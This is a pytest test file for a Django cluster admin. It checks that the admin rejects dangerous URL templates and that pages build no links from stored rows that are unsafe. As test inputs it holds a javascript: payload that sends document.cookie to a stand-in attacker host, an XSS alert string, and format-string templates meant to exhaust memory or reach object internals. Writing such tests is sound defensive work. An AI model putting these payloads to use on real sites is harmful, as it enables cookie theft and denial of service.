"""Clusters in the admin: what an SRE may save, and what the pages make of it."""

from __future__ import annotations

import pytest

from apps.clusters.models import Cluster, Pod

pytestmark = pytest.mark.django_db


def _cluster_form(cluster: Cluster, **changes) -> dict:
    data = {
        "name": cluster.name, "stage": cluster.stage, "enabled": "on", "connection": cluster.connection,
        "kubeconfig_path": cluster.kubeconfig_path, "context": cluster.context, "eks_cluster_name": "",
        "eks_region": "", "logs_url_template": "", "datadog_url_template": "",
    }  # fmt: skip
    return {**data, **changes}


@pytest.mark.parametrize(
    "field, template",
    [
        ("logs_url_template", "javascript:fetch('//evil.example.com/'+document.cookie)//{pod}"),
        ("datadog_url_template", "https://app.datadoghq.com/{pod:>99999999}"),
        ("datadog_url_template", "https://app.datadoghq.com/{pod.__class__}"),
    ],
)
def test_the_admin_refuses_a_template_that_breaks_the_rule(client_for, sre, cluster, field, template):
    url = f"/admin/clusters/cluster/{cluster.pk}/change/"
    response = client_for(sre).post(url, _cluster_form(cluster, **{field: template}))
    assert response.status_code == 200  # the form again, with the error
    assert "errorlist" in response.content.decode()
    cluster.refresh_from_db()
    assert getattr(cluster, field) == ""


def test_the_admin_saves_a_good_template(client_for, sre, cluster):
    template = "https://grafana.example.com/explore?left={query}"
    url = f"/admin/clusters/cluster/{cluster.pk}/change/"
    response = client_for(sre).post(url, _cluster_form(cluster, logs_url_template=template))
    assert response.status_code == 302, response.content.decode()[:3000]
    cluster.refresh_from_db()
    assert cluster.logs_url_template == template


@pytest.mark.parametrize(
    "template",
    ["javascript:alert(document.domain)//{pod}", "https://grafana.example.com/{pod:>3000000}"],
)
def test_a_row_saved_before_the_rule_gives_no_link(client_for, alice, synced, template):
    # Saved without the admin's checks, as rows from before the rule were.
    Cluster.objects.filter(pk=synced.pk).update(logs_url_template=template, datadog_url_template=template)
    pod = Pod.objects.filter(namespace="payments", name__startswith="checkout-api").first()
    response = client_for(alice).get(f"/teams/payments/pods/demo/payments/{pod.name}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "javascript:" not in html and len(html) < 500_000
    assert "Logs in Grafana/Loki" not in html and ">Datadog</a>" not in html
